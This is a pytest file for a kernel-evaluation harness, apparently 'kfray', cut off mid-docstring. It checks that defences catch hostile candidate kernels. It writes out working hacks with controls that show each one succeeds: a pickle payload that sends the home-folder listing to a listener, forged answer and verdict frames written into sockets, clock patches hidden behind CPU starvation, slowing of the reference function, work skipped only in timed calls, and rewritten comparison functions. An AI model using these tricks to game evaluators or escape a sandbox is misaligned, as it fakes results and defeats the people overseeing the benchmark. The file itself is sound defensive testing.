"""The judge out of the candidate's reach (kfray/eval/defences.py lists the defences).

Real hostile kernels, in both forms a candidate takes: a kf_forward C++ library (cpu backend)
and a KernelBench ModelNew file (torch_ext_cpu). Each one is correct, so only a defence can stop
it; each is refused or flagged with a reason that names the rule, and nothing it sends reaches a
listener. A control shows each hack does work where the defence is not in the way.
"""
from __future__ import annotations

import json
import pickle
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from kfray.candidate import TIER_WRONG_VALUES, Candidate, EvalResult
from kfray.config import EvalConfig
from kfray.eval.evaluator import Evaluator
from kfray.eval import isolation
from kfray.source import parse_params

AXPB = ('#include <cstdint>\n#include <cstdlib>\n#include <sys/stat.h>\n#include <unistd.h>\n'
        'extern "C" int kf_forward(const float* x, float* y, float a, float b, int64_t n)')
BODY = "for (int64_t i = 0; i < n; ++i) y[i] = a * x[i] + b;"


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection (where a token would be sent)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.got: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            c.settimeout(2)
            try:
                self.got.append(c.recv(1000) or b"(connected)")
            except OSError:
                self.got.append(b"(connected)")
            c.close()

    def close(self):
        self.sock.close()


class _Escape:
    """What a pickle runs where it is loaded: a connection out, with the home folder's files."""

    def __init__(self, port: int):
        self.port = port

    def __reduce__(self):
        code = (f"__import__('socket').create_connection(('127.0.0.1', {self.port}), 2)"
                ".sendall(repr(__import__('os').listdir(__import__('os').path.expanduser('~'))).encode())")
        return (eval, (code,))


def pickle_frame(port: int) -> bytes:
    """An answer in multiprocessing.connection's format (a length, then a pickle) that escapes."""
    p = pickle.dumps(_Escape(port), protocol=2)
    return struct.pack("!i", len(p)) + p


def json_frame(obj: dict) -> bytes:
    data = json.dumps(obj).encode()
    return struct.pack(">I", len(data)) + data


def c_bytes(data: bytes) -> str:
    return "{" + ",".join(str(b) for b in data) + "}"


def forging_kernel(frame: bytes) -> str:
    """A correct axpb kernel that writes `frame` into every socket its process holds."""
    return AXPB.replace("extern", f"static const unsigned char F[] = {c_bytes(frame)};\nextern") + "{\n" + BODY + """
    for (int fd = 3; fd < 1024; ++fd) {
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) { ssize_t r = write(fd, F, sizeof F); (void)r; }
    }
    return 0;
}"""


@pytest.fixture(scope="module")
def evaluator(tmp_path_factory):
    ev = Evaluator("cpu", EvalConfig(cache_dir=str(tmp_path_factory.mktemp("cache")), timeout_s=60, tune_budget=0))
    yield ev
    ev.shutdown()


@pytest.fixture
def listener():
    lis = Listener()
    yield lis
    lis.close()


def _eval(ev, source: str, task: str = "axpb") -> EvalResult:
    c = Candidate(task=task, language="cpp", source=source, params=parse_params(source).default())
    return EvalResult.from_dict(ev.evaluate(c, task))


def _trusted_correct(r: EvalResult) -> bool:
    return r.tier == 5 and not r.facts.get("untrusted")


# --- kf_forward kernels ------------------------------------------------------------------------------
def test_a_kernel_that_writes_an_escaping_pickle_into_its_sockets_reaches_nothing(evaluator, listener):
    r = _eval(evaluator, forging_kernel(pickle_frame(listener.port)))
    assert r.tier == 2 and "data-only wire" in r.reason and "refused" in r.reason, r.reason
    threading.Event().wait(0.5)
    assert listener.got == [], f"the forged pickle ran somewhere: {listener.got}"


def test_a_forged_json_answer_is_refused_as_out_of_turn(evaluator):
    # A well-formed answer of the wire's own format, claiming a call that took no time.
    r = _eval(evaluator, forging_kernel(json_frame({"rc": 0, "s": 1e-9})))
    assert r.tier == 2 and "out of turn" in r.reason and "data-only wire" in r.reason, r.reason


def test_control_the_pickle_escapes_wherever_it_is_unpickled(listener):
    """Without the data-only wire (the evaluator unpickled what came back) the same bytes reach out."""
    frame = pickle_frame(listener.port)
    pickle.loads(frame[4:])
    threading.Event().wait(0.5)
    assert listener.got, "the control pickle did not connect: the escape test proves nothing"


CLOCK_PATCH = ("import time, sys\\n_real = time.perf_counter\\n_t0 = _real()\\n"
               "def fake(): return _t0 + (_real() - _t0) * 0.01\\n"
               "time.perf_counter = fake\\n"
               "for m in list(sys.modules.values()):\\n"
               "    try:\\n        if getattr(m, 'perf_counter', None) is _real: m.perf_counter = fake\\n"
               "    except Exception: pass\\n")


def clock_kernel() -> str:
    """A correct axpb kernel that, through the Python C API, slows every copy of perf_counter's
    clock down 100-fold in its process on its first call."""
    return AXPB.replace("extern", 'extern "C" { int PyGILState_Ensure(void); void PyGILState_Release(int); '
                        'int PyRun_SimpleStringFlags(const char*, void*); }\nextern') + "{\n" + BODY + f"""
    static bool done = false;
    if (!done) {{
        done = true;
        int g = PyGILState_Ensure();
        PyRun_SimpleStringFlags("{CLOCK_PATCH}", nullptr);
        PyGILState_Release(g);
    }}
    return 0;
}}"""


def test_a_kernel_that_patches_its_processs_clocks_is_flagged_by_the_judges_clock(evaluator):
    r = _eval(evaluator, clock_kernel())
    assert r.tier == 5, r.reason                       # it computes the right values...
    why = r.facts.get("untrusted", "")
    assert "outside clock" in why, f"faked times were believed: {r.times} ({r.reason})"
    # ...and the hack did work on the figures its own process reported (the control): what it
    # claimed is a small fraction of what the judge's clock saw.
    claimed, seen = [float(x) for x in why.split("claims ")[1].split(" us a call, but the judge's clock saw ")[0:1]] + \
        [float(why.split("clock saw ")[1].split(" us")[0])]
    assert claimed < 0.1 * seen, why


STARVER = """
#include <atomic>
#include <pthread.h>
#include <sched.h>
static std::atomic<int> kf_stop, kf_done;
static const float* kx; static float* ky; static float ka, kb; static int64_t kn;
static void* kf_spin(void*) { while (!kf_stop.load()) {} return nullptr; }
static void* kf_work(void*) {
    for (int r = 0; r < 10; ++r) for (int64_t i = 0; i < kn; ++i) ky[i] = ka * kx[i] + kb;
    kf_done = 1; return nullptr;
}
"""


def starving_clock_kernel(spinners: int = 30, slowed: float = 0.1) -> str:
    """The clock patch of clock_kernel, and each call's work done by a thread of its own while
    `spinners` busy threads pinned to the request thread's CPU keep that thread runnable but off the
    CPU: the scheduler counts its wait, which the outside clock would put down to a busy host. Its
    clock runs `slowed` as fast, about what the request thread's share of its CPU lets through."""
    return clock_kernel().replace("* 0.01", f"* {slowed}").replace("extern \"C\" { int PyGILState", STARVER + "extern \"C\" { int PyGILState").replace(
        "{\n" + BODY + "\n    static bool done", "{\n" + f"""
    kx = x; ky = y; ka = a; kb = b; kn = n; kf_stop = 0; kf_done = 0;
    cpu_set_t one; CPU_ZERO(&one); CPU_SET(sched_getcpu(), &one);
    pthread_setaffinity_np(pthread_self(), sizeof(one), &one);
    pthread_attr_t pinned; pthread_attr_init(&pinned); pthread_attr_setaffinity_np(&pinned, sizeof(one), &one);
    pthread_t spin[{spinners}], work;
    for (int i = 0; i < {spinners}; ++i) pthread_create(&spin[i], &pinned, kf_spin, nullptr);
    pthread_create(&work, nullptr, kf_work, nullptr);
    while (!kf_done.load()) {{}}
    kf_stop = 1;
    for (int i = 0; i < {spinners}; ++i) pthread_join(spin[i], nullptr);
    pthread_join(work, nullptr);
    static bool done""")


def test_a_kernel_that_keeps_its_own_request_thread_waiting_does_not_hide_a_patched_clock(evaluator):
    src = starving_clock_kernel()
    assert "kf_spin" in src and "PyRun_SimpleStringFlags" in src     # both parts of the hack are in it
    r = _eval(evaluator, src)
    assert r.tier == 5, r.reason
    assert "outside clock" in r.facts.get("untrusted", ""), f"faked times were believed: {r.times} ({r.reason})"


FORKER = """
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>
"""


def forking_starving_clock_kernel(spinners: int = 30, slowed: float = 0.1) -> str:
    """starving_clock_kernel with its spinners forked as processes instead of started as threads
    (pinned to the request thread's CPU, stopped through a shared page, waited for): their CPU time
    is no thread's of the runner, nor the runner's until they are reaped."""
    return starving_clock_kernel(spinners, slowed).replace(STARVER, STARVER + FORKER).replace(
        f"""    pthread_t spin[{spinners}], work;
    for (int i = 0; i < {spinners}; ++i) pthread_create(&spin[i], &pinned, kf_spin, nullptr);
    pthread_create(&work, nullptr, kf_work, nullptr);
    while (!kf_done.load()) {{}}
    kf_stop = 1;
    for (int i = 0; i < {spinners}; ++i) pthread_join(spin[i], nullptr);
    pthread_join(work, nullptr);""", f"""    static volatile int* stop = (volatile int*)mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
                                                    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    *stop = 0;
    pid_t kids[{spinners}];
    for (int i = 0; i < {spinners}; ++i)
        if ((kids[i] = fork()) == 0) {{ sched_setaffinity(0, sizeof(one), &one); while (!*stop) {{}} _exit(0); }}
    pthread_t work;
    pthread_create(&work, nullptr, kf_work, nullptr);
    while (!kf_done.load()) {{}}
    *stop = 1;
    for (int i = 0; i < {spinners}; ++i) if (kids[i] > 0) waitpid(kids[i], nullptr, 0);
    pthread_join(work, nullptr);""")


def test_a_kernel_whose_forked_processes_keep_its_request_thread_waiting_does_not_hide_a_patched_clock(evaluator):
    src = forking_starving_clock_kernel()
    assert "fork()" in src and "PyRun_SimpleStringFlags" in src and "pthread_create(&spin" not in src
    r = _eval(evaluator, src)
    assert r.tier == 5, r.reason
    assert "outside clock" in r.facts.get("untrusted", ""), f"faked times were believed: {r.times} ({r.reason})"


def test_control_the_waits_a_kernel_makes_itself_are_not_allowed_for():
    """The same request seen by the scheduler: 5 ms outside, the request thread 4.5 ms runnable but
    off its CPU, while the runner's other threads used 9 ms of CPU (the work and the spinners).
    Taken as waits for a busy host, those 4.5 ms would pass a claim of 50 us."""
    from kfray.eval.defences import clock_check
    from kfray.eval.remote import waits_allowed

    before, after = (0.0, 0.0, 0.0, 0.0), (0.0, 0.5e-3, 4.5e-3, 9.5e-3)
    assert waits_allowed(before, after) == 0.0
    honest = (0.0, 0.0, 0.0, 0.0), (0.4e-3, 1.2e-3, 1.6e-3, 1.25e-3)   # a busy host: others used 50 us
    assert abs(waits_allowed(*honest) - 1.95e-3) < 1e-9
    wire = (110e-6, 150e-6)
    assert clock_check([(5e-3, 50e-6, 4.5e-3)] * 20, wire) is None          # what the hack relied on
    assert "outside clock" in clock_check([(5e-3, 50e-6, waits_allowed(before, after))] * 20, wire)


def test_waits_for_a_cpu_are_not_taken_for_a_faked_clock_and_do_not_hide_one():
    """Measured on 2 cores shared by two evaluators: an honest 1.2 ms matmul call seen as 3.2 ms
    by the judge, the scheduler counting 2 ms of waiting for a CPU. Without those waits the judge
    called it a patched clock; the waits must not excuse a claim far below the work either."""
    from kfray.eval.defences import clock_check

    wire = (110e-6, 150e-6)
    honest = [(3.2e-3, 1.2e-3, 2.0e-3)] * 20
    assert clock_check(honest, wire) is None
    assert "outside clock" in clock_check([(o, c, 0.0) for o, c, _ in honest], wire)
    faked = [(3.2e-3, 0.12e-3, 0.3e-3)] * 20          # a tenth of the call claimed, little waiting
    assert "waits for a CPU 300.0 us" in clock_check(faked, wire)


def test_nothing_a_kernel_leaves_behind_reaches_the_next_candidate(evaluator):
    marker = AXPB + "{\n" + BODY + '\n    setenv("KF_LEFT_BEHIND", "1", 1);\n    return 0;\n}'
    checker = AXPB + "{\n" + BODY + '\n    return getenv("KF_LEFT_BEHIND") ? 7 : 0;\n}'
    assert _eval(evaluator, marker).tier == 5
    r = _eval(evaluator, checker)
    assert r.tier == 5, f"the next candidate saw what the last one left: {r.reason}"


def test_control_a_marker_is_seen_in_the_same_process():
    """Within one process the marker stays for whatever runs next there: only a fresh process helps."""
    code = ("import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getenv.restype = ctypes.c_char_p\n"
            "libc.setenv(b'KF_LEFT_BEHIND', b'1', 1)\nprint(libc.getenv(b'KF_LEFT_BEHIND'))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert out.stdout.strip() == "b'1'", out.stdout + out.stderr


# --- KernelBench ModelNew files ----------------------------------------------------------------------
torch = pytest.importorskip("torch")
from kept_judges import JUDGES  # noqa: E402
from kfray.verify import verify  # noqa: E402

PROBLEM = '''import torch
import torch.nn as nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    return [torch.randn({rows}, 8192)]


def get_init_inputs():
    return []
'''
MODELNEW = '''import torch
import torch.nn as nn
{prelude}

class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
{init}
    def forward(self, x):
{body}
'''


def problem(tmp_path: Path, rows: int) -> str:
    d = tmp_path / "kb" / "level1"
    d.mkdir(parents=True, exist_ok=True)
    p = d / f"1_ReLU_{rows}.py"
    p.write_text(PROBLEM.format(rows=rows))
    return f"kernelbench:{p}"


def modelnew(tmp_path: Path, name: str, body: str = "        return torch.clamp_min(x, 0.0)", prelude: str = "",
             init: str = "") -> Path:
    p = tmp_path / f"{name}.py"
    p.write_text(MODELNEW.format(prelude=prelude, init=init, body=body))
    return p


def _verify(task: str, kernel: Path, cache: Path, *sets: str) -> EvalResult:
    """`kfray verify` through judges kept for the file: each hostile kernel here runs in a runner of
    its own beside a judge the kernels before it had their chance to reach."""
    res, backend = verify(task, str(kernel), "torch_ext_cpu", [f"eval.cache_dir={cache}", "eval.suite_perf_trials=10",
                                                                *sets], judges=JUDGES)
    return res


FORGE_PY = '''import os, stat
FRAME = {frame!r}
for fd in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, FRAME)
    except OSError:
        pass
'''


def test_a_modelnew_that_writes_an_escaping_pickle_at_import_reaches_nothing(tmp_path, suite_cache, listener):
    k = modelnew(tmp_path, "forge", prelude=FORGE_PY.format(frame=pickle_frame(listener.port)))
    r = _verify(problem(tmp_path, 8), k, suite_cache)
    assert r.tier == 2 and "data-only wire" in r.reason, r.reason
    threading.Event().wait(0.5)
    assert listener.got == [], f"the forged pickle ran somewhere: {listener.got}"


def test_a_modelnew_that_forges_a_verdict_is_refused(tmp_path, suite_cache):
    forged = json_frame({"tier": 5, "reason": "", "times": {"default": 1e-9}, "ref_times": {"default": 1.0}})
    k = modelnew(tmp_path, "verdict", prelude=FORGE_PY.format(frame=forged))
    r = _verify(problem(tmp_path, 8), k, suite_cache)
    assert r.tier == 2 and "data-only wire" in r.reason, r.reason


def test_a_modelnew_that_patches_the_clocks_is_flagged(tmp_path, suite_cache):
    k = modelnew(tmp_path, "clock", prelude=CLOCK_PATCH.replace("\\n", "\n"))
    r = _verify(problem(tmp_path, 1024), k, suite_cache)
    assert r.tier == 5, r.reason
    assert "outside clock" in r.facts.get("untrusted", ""), f"faked times were believed: {r.reason} {r.facts.get('suite')}"


SLOW_RELU = ("_relu = torch.relu\n"
             "def _slow(x, *a, **k):\n    for _ in range(4):\n        y = _relu(x, *a, **k)\n    return y\n"
             "torch.relu = _slow\ntorch.Tensor.relu = lambda self: _slow(self)\n")


def test_a_modelnew_that_slows_the_references_torch_function_gains_nothing(tmp_path, suite_cache):
    k = modelnew(tmp_path, "slowref", prelude=SLOW_RELU)
    r = _verify(problem(tmp_path, 1024), k, suite_cache)
    assert r.tier == 5, r.reason
    speedup = r.facts["suite"]["speedup"]
    assert speedup < 2.0, f"the reference was slowed in its own process: {speedup:.2f}x"


def test_the_reference_timed_in_a_runner_of_its_own_is_the_references_time_untouched(tmp_path, suite_cache):
    """eval.suite_ref_timing=runner (the default on the GPU): the reference is timed in a runner of its
    own, forked from the clean zygote. The same model on both sides then reads about 1x, and a
    candidate that slows torch in its own process does not slow the reference's runner."""
    task = problem(tmp_path, 1024)
    same = _verify(task, modelnew(tmp_path, "same", body="        return torch.relu(x)"), suite_cache,
                   "eval.suite_ref_timing=runner")
    assert same.tier == 5, same.reason
    assert same.facts["suite"]["reference_timed"] == "in a runner of its own", same.facts["suite"]
    assert 0.5 < same.facts["suite"]["speedup"] < 2.0, same.facts["suite"]
    slowed = _verify(task, modelnew(tmp_path, "slowref_apart", prelude=SLOW_RELU), suite_cache,
                     "eval.suite_ref_timing=runner")
    assert slowed.tier == 5, slowed.reason
    assert slowed.facts["suite"]["reference_timed"] == "in a runner of its own"
    assert slowed.facts["suite"]["speedup"] < 2.0, f"the reference's runner was slowed: {slowed.facts['suite']}"


def test_control_patching_torch_slows_a_reference_in_the_same_process(tmp_path):
    code = ("import time, torch\nx = torch.randn(2048, 8192)\n"
            "def t():\n    t0 = time.perf_counter()\n    for _ in range(5): torch.relu(x)\n    return time.perf_counter() - t0\n"
            "t(); before = t()\n" + SLOW_RELU + "after = t()\nprint(after / before)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert float(out.stdout.strip()) > 2.0, out.stdout + out.stderr


MEMO = "        self.memo = {}\n"
MEMO_BODY = ("        k = (x.data_ptr(), tuple(x.shape))\n"
             "        if k not in self.memo:\n            self.memo[k] = torch.relu(x)\n"
             "        return self.memo[k]")


def test_a_modelnew_that_memoises_by_input_address_gains_nothing(tmp_path, suite_cache):
    k = modelnew(tmp_path, "memo", init=MEMO, body=MEMO_BODY)
    r = _verify(problem(tmp_path, 1024), k, suite_cache)
    assert not (_trusted_correct(r) and r.facts["suite"]["speedup"] > 3.0), \
        f"memoised results were timed as the kernel's: {r.facts.get('suite')}"


# Timed calls get fresh clones of the inputs; the correctness trials and the checks after the timing
# get the shared sets themselves. A kernel can tell the two apart (on the CPU a shared set's storage
# is a mapping, which cannot be resized; a clone's can) and skip
# its work only while it is timed: the judge's spot checks of timed calls, whose outputs it has
# copied only after each call answered, are what catch it.
# Its first two timed calls are right: the slots the judge's copies go to start out holding those.
SKIPS_WHEN_TIMED = ("        if x.untyped_storage().resizable():\n            self.n += 1\n"
                    "            if self.n > 2 and self.n % 4:\n                return torch.zeros_like(x)\n"
                    "        return torch.clamp_min(x, 0.0)")


def test_a_modelnew_that_skips_work_only_in_timed_calls_is_caught_by_the_spot_checks(tmp_path, suite_cache):
    k = modelnew(tmp_path, "skips_timed", init="        self.n = 0\n", body=SKIPS_WHEN_TIMED)
    r = _verify(problem(tmp_path, 64), k, suite_cache)
    assert r.tier == TIER_WRONG_VALUES and "spot checks of timed calls" in r.reason, (r.tier, r.reason)


def test_checked_calls_output_copies_that_take_far_longer_than_a_copy_are_flagged():
    from kfray.eval.defences import copy_check

    wire = (80e-6, 120e-6)
    assert copy_check([], 1e-3, wire) is None
    assert copy_check([1.2e-3, 1.1e-3, 2.5e-3], 1e-3, wire) is None         # a copy of 1 ms, one slow
    why = copy_check([9e-3, 8.5e-3, 9.2e-3, 1.1e-3], 1e-3, wire)            # the work done when asked
    assert why and "outside clock" in why and "8750 us (median of 4)" in why, why


def test_the_judge_starts_its_own_work_while_the_candidates_runner_loads(tmp_path, suite_cache):
    k = modelnew(tmp_path, "slow_import", prelude="import time\ntime.sleep(1.5)\n")
    r = _verify(problem(tmp_path, 8), k, suite_cache)
    assert r.tier == 5, r.reason
    assert r.facts["runner_load_s"]["import_s"] >= 1.5, r.facts.get("runner_load_s")
    st = r.stage_seconds
    assert st["load_kernel"] < 1.0, f"the judge waited for the runner's import before its own work: {st}"
    assert st["load_wait"] > 0.2, f"the import's time went nowhere: {st}"


def test_a_patch_left_by_one_modelnew_does_not_reach_the_next(tmp_path, suite_cache):
    poison = "torch.clamp_min = lambda *a, **k: (_ for _ in ()).throw(RuntimeError('left behind'))\n"
    task = problem(tmp_path, 8)
    ev = Evaluator("torch_ext_cpu", EvalConfig(cache_dir=str(suite_cache), timeout_s=120, tune_budget=0,
                                                suite_perf_trials=10))
    try:
        def run(path: Path) -> EvalResult:
            c = Candidate(task=task, language="modelnew", source=path.read_text(), params={})
            return EvalResult.from_dict(ev.evaluate(c, task))

        first = run(modelnew(tmp_path, "poisoner", prelude=poison, body="        return torch.relu(x)"))
        assert first.tier == 5, first.reason
        second = run(modelnew(tmp_path, "victim"))
        assert second.tier == 5, f"the next candidate ran with the last one's patch: {second.reason}"
        if isolation.active("namespaces"):     # its runner forked once the poisoner's processes were all gone
            assert second.facts["runner_forked_ahead"] and not first.facts["runner_forked_ahead"], second.facts
        assert ev.sandbox.restarts == 0, "the judge was restarted: the test shows nothing about its runners"
    finally:
        ev.shutdown()


def test_control_a_patch_reaches_what_runs_next_in_the_same_process(tmp_path):
    code = ("import torch\ntorch.clamp_min = lambda *a, **k: (_ for _ in ()).throw(RuntimeError('left behind'))\n"
            "torch.clamp_min(torch.ones(2), 0.0)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert "left behind" in out.stderr


def test_input_sets_the_judge_lets_go_of_leave_the_runner_too(tmp_path):
    """Full-size sets are many GiB: a set must not outlive its trial in either process."""
    import gc

    from kfray.eval.remote import RemoteRunner
    from kfray.eval.spawner import Spawner
    from kfray.eval.suite.remote_case import RemoteKernel
    from kfray.tasks import load_task

    task = load_task(problem(tmp_path, 8))
    k = modelnew(tmp_path, "plain")
    spawner = Spawner()
    runner = RemoteRunner(spawner)
    try:
        kernel = RemoteKernel(runner, str(k), task, "cpu")

        def mapped() -> int:
            return Path(f"/proc/{runner.pid}/maps").read_text().count("kfray-tensor")

        for _ in range(20):
            xs = kernel.share([torch.randn(256, 1024)])      # 1 MiB each
            del xs
            gc.collect()
        kernel.share([torch.randn(4)])                         # the next request carries the drops
        assert mapped() <= 3, f"{mapped()} shared input buffers are still mapped in the runner"
    finally:
        runner.close()
        spawner.close()


def test_sets_let_go_of_while_others_came_and_went_leave_the_runner_too(tmp_path):
    """The judge's real order: many requests between a set's sharing and its release (each takes the
    drops so far); the set must still leave the runner when the judge lets it go."""
    import gc

    from kfray.eval.remote import RemoteRunner
    from kfray.eval.spawner import Spawner
    from kfray.eval.suite.remote_case import RemoteKernel
    from kfray.tasks import load_task

    task = load_task(problem(tmp_path, 8))
    spawner = Spawner()
    runner = RemoteRunner(spawner)
    try:
        kernel = RemoteKernel(runner, str(modelnew(tmp_path, "plain")), task, "cpu")
        held = [kernel.share([torch.randn(256, 1024)]) for _ in range(12)]
        maps = Path(f"/proc/{runner.pid}/maps")
        assert maps.read_text().count("kfray-tensor") >= 12
        del held
        gc.collect()
        kernel.share([torch.randn(4)])
        assert maps.read_text().count("kfray-tensor") <= 3, "sets the judge let go of are still mapped in the runner"
    finally:
        runner.close()
        spawner.close()


MANY_LAYERS = '''import torch
import torch.nn as nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.layers = nn.Sequential(*[nn.Linear(8, 8) for _ in range(60)])

    def forward(self, x):
        return self.layers(x)


def get_inputs():
    return [torch.randn(4, 8)]


def get_init_inputs():
    return []
'''


def test_a_model_with_hundreds_of_parameters_is_seen_whole_from_the_judge(tmp_path):
    """A ResNet's state does not fit one answer on the wire: it comes a page at a time, all of it."""
    from kfray.eval.remote import RemoteRunner
    from kfray.eval.spawner import Spawner
    from kfray.eval.suite.remote_case import RemoteKernel
    from kfray.tasks import load_task

    d = tmp_path / "kb" / "level3"
    d.mkdir(parents=True)
    (d / "1_Deep.py").write_text(MANY_LAYERS)
    task = load_task(f"kernelbench:{d / '1_Deep.py'}")
    k = tmp_path / "deep_new.py"
    k.write_text(f"import torch\nimport importlib.util\n"
                 f"spec = importlib.util.spec_from_file_location('deep_ref', {str(d / '1_Deep.py')!r})\n"
                 "mod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n\n\n"
                 "class ModelNew(mod.Model):\n    pass\n")
    spawner = Spawner()
    runner = RemoteRunner(spawner)
    try:
        kernel = RemoteKernel(runner, str(k), task, "cpu")
        state = dict(kernel.build(0, 42).named_parameters())
        torch.manual_seed(42)
        want = dict(torch.nn.Sequential(*[torch.nn.Linear(8, 8) for _ in range(60)]).named_parameters())
        assert len(state) == 120
        assert sorted(state) == sorted(f"layers.{n}" for n in want)
    finally:
        runner.close()
        spawner.close()


def dropout_problem(tmp_path: Path, rows: int, n: int, p: float) -> tuple[str, Path]:
    """KernelBench's level2/66 in small (dropout in training mode), and its reference as a ModelNew:
    (task ref, kernel file)."""
    d = tmp_path / "kb" / "level2"
    d.mkdir(parents=True, exist_ok=True)
    f = d / "66_Matmul_Dropout_Softmax.py"
    f.write_text("import torch\nimport torch.nn as nn\n\n\nclass Model(nn.Module):\n"
                 "    def __init__(self, n, p):\n        super().__init__()\n        self.lin = nn.Linear(n, n)\n"
                 "        self.drop = nn.Dropout(p)\n\n    def forward(self, x):\n"
                 "        return torch.softmax(self.drop(self.lin(x)) * 8.0, dim=1)\n\n\n"
                 f"def get_inputs():\n    return [torch.rand({rows}, {n})]\n\n\n"
                 f"def get_init_inputs():\n    return [{n}, {p}]\n")
    k = tmp_path / "drop_new.py"
    k.write_text(f.read_text().replace("class Model(", "class ModelNew("))
    return f"kernelbench:{f}", k


def test_a_reference_that_draws_random_numbers_passes_as_its_own_kernel(tmp_path, suite_cache):
    """Dropout in training mode (KernelBench level2/66): each side's call starts from the trial's
    seed, so the reference's copy, run in its runner, draws the same mask as the reference."""
    task, k = dropout_problem(tmp_path, rows=64, n=256, p=0.5)
    r = _verify(task, k, suite_cache)
    assert r.tier == 5, r.reason


# --- robust-kbench backward kernels --------------------------------------------------------------------
RKB_FORM = Path(__file__).parent / "data" / "rkb_form"
LINEAR_RELU_BW = f"rkb:{RKB_FORM / 'linear_relu'}#backward"
HOSTILE_BW = RKB_FORM / "backward_hostile.cpp"      # wrong gradients; its init makes every comparison pass
needs_gxx = pytest.mark.skipif(__import__("shutil").which("g++") is None, reason="g++ is not on PATH")


def _build(source: Path, task, cache: Path) -> str:
    """The kernel built the normal way (the torch_ext_cpu backend's compile, into the compile cache)."""
    from kfray.eval.backends.torch_ext import TorchExtCpuBackend

    return TorchExtCpuBackend(EvalConfig(cache_dir=str(cache))).compile(source.read_text(), {}, task).artifact


@needs_gxx
def test_a_backward_kernel_that_rewrites_the_comparisons_of_its_process_is_still_rejected(suite_cache):
    """This test's process is the judge (as the sandbox's judge does it: a runner forked from a zygote,
    the suite's job here). The kernel's init replaces torch.allclose, Tensor.allclose, isclose, equal
    and kfray's comparison helpers with ones that always agree, and its gradients are wrong: it is
    loaded in its runner only, so the judge compares with its own and names the wrong gradient."""
    import os

    from kfray.candidate import TIER_WRONG_VALUES
    from kfray.eval.backends.torch_ext import TorchExtCpuBackend
    from kfray.eval.remote import RemoteRunner
    from kfray.eval.spawner import Spawner
    from kfray.eval.suite import run_suite_job
    from kfray.eval.suite import common
    from kfray.eval.suite.remote_case import RemoteKernel
    from kfray.tasks import load_task

    task = load_task(LINEAR_RELU_BW)
    artifact = _build(HOSTILE_BW, task, suite_cache)
    mine = (torch.allclose, torch.Tensor.allclose, common.allclose_reason)
    spawner = Spawner()
    runner = RemoteRunner(spawner)
    try:
        kernel = RemoteKernel(runner, artifact, task, "cpu")
        assert artifact in Path(f"/proc/{runner.pid}/maps").read_text(), "the kernel was not loaded in its runner"
        res = run_suite_job(TorchExtCpuBackend(EvalConfig(cache_dir=str(suite_cache))), kernel, task,
                            {"suite_perf_trials": 10})
    finally:
        runner.close()
        spawner.close()
    assert res["tier"] == TIER_WRONG_VALUES, res["reason"]
    assert "gradient param_weight" in res["reason"] and "robust-kbench rule" in res["reason"], res["reason"]
    assert artifact not in Path("/proc/self/maps").read_text(), "the judge's process loaded the kernel"
    assert "KFRAY_HOSTILE_BACKWARD_RAN_IN" not in os.environ, "the kernel's init ran in the judge's process"
    assert (torch.allclose, torch.Tensor.allclose, common.allclose_reason) == mine


@needs_gxx
def test_control_the_same_backward_kernel_loaded_in_the_judges_process_passes(suite_cache):
    """The control, in a process of its own: the same kernel loaded where the comparisons run (the
    in-process path, the suite's job unchanged) has its wrong gradients pass as correct."""
    code = f'''
from kfray.config import EvalConfig
from kfray.eval.backends.torch_ext import TorchExtCpuBackend
from kfray.eval.suite import run_suite_job
from kfray.tasks import load_task

task = load_task({LINEAR_RELU_BW!r})
backend = TorchExtCpuBackend(EvalConfig(cache_dir={str(suite_cache)!r}))
kernel = backend.load(backend.compile(open({str(HOSTILE_BW)!r}).read(), {{}}, task).artifact, task)
res = run_suite_job(backend, kernel, task, {{"suite_perf_trials": 10}})
print("TIER", res["tier"], res["reason"])
'''
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=600)
    assert "TIER 5 " in out.stdout, out.stdout + out.stderr[-2000:]


@needs_gxx
def test_a_hostile_backward_kernel_through_kfray_verify_is_judged_from_its_runner(suite_cache):
    """The same through the sandbox: the judge's verdict names the wrong gradient, the kernel ran in
    a runner (its round trip is on record) and never in the judge (no in-judge note, no state change)."""
    r = _verify(LINEAR_RELU_BW, HOSTILE_BW, suite_cache)
    assert r.tier == 4 and "gradient param_weight" in r.reason and "robust-kbench rule" in r.reason, r.reason
    assert "runner_round_trip_us" in r.facts
    assert "in_judge_because" not in r.facts and "state_changed" not in r.facts


@needs_gxx
def test_a_backward_kernel_that_patches_its_runners_clock_is_flagged_though_the_judge_looks_twice(suite_cache):
    """Correct gradients, but the first call slows perf_counter 100-fold in its runner, so that it
    claims a hundredth of its time. The judge times a flagged backward a second time before it
    flags (a burst of load on the host passes the second look); a patched clock fails both."""
    r = _verify(LINEAR_RELU_BW, RKB_FORM / "backward_clock.cpp", suite_cache)
    assert r.tier == 5, r.reason
    why = r.facts.get("untrusted", "")
    assert "outside clock" in why, f"faked times were believed: {r.reason} {r.facts.get('suite')}"
    claimed, seen = float(why.split("claims ")[1].split(" us")[0]), float(why.split("clock saw ")[1].split(" us")[0])
    assert claimed < 0.1 * seen, why     # the hack did work on what its process reported


def test_the_other_sides_runner_sets_the_floor_of_what_a_request_costs_beyond_its_call():
    """Measured on an H100 (robust-kbench level_1/task_85, its reference against itself): 704 us a
    request around a 100 us call, the wire 47 us and the judge's copies 225 us. The runner's own
